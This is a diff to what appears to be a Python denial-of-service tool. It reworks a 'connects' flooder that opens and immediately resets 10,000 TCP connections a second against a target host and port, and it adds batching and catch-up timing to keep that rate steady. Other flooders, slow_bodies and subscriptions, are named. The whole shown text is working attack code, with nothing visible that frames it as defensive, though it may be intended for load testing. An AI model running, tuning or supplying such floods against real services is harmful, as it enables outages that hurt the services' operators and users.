@@ -19,7 +19,7 @@ from ipaddress import ip_address
 import orjson
 
 STALLED = 0.5  # seconds without progress after which a flooder starts anew
-CONNECTS_PER_SECOND = 10_000
+CONNECTS_PER_SECOND, CONNECTS_AT_ONCE = 10_000, 500
 
 
 @dataclass
@@ -212,20 +212,22 @@ async def slow_bodies(attack: Attack) -> None:
 
 
 async def connects(attack: Attack) -> None:
-    """Connections that are closed at once, up to 10,000 a second."""
-    step = 0.01
+    """Connections that are closed at once, 10,000 a second."""
+    linger = struct.pack("ii", 1, 0)
     attack.begin()
+    began, made = time.monotonic(), 0
     while attack.is_on:
-        began = time.monotonic()
-        for _ in range(int(CONNECTS_PER_SECOND * step)):
+        due = int((time.monotonic() - began) * CONNECTS_PER_SECOND)  # a late wake-up is made up for
+        for _ in range(min(due - made, CONNECTS_AT_ONCE)):
             wire = socket.socket()
             wire.setblocking(False)
             with contextlib.suppress(OSError):
                 wire.connect_ex((attack.host, attack.port))
-            wire.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            wire.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
             wire.close()
             attack.count("connections")
-        await asyncio.sleep(max(0, step - (time.monotonic() - began)))
+            made += 1
+        await asyncio.sleep(0.005)
 
 
 async def subscriptions(attack: Attack) -> None:
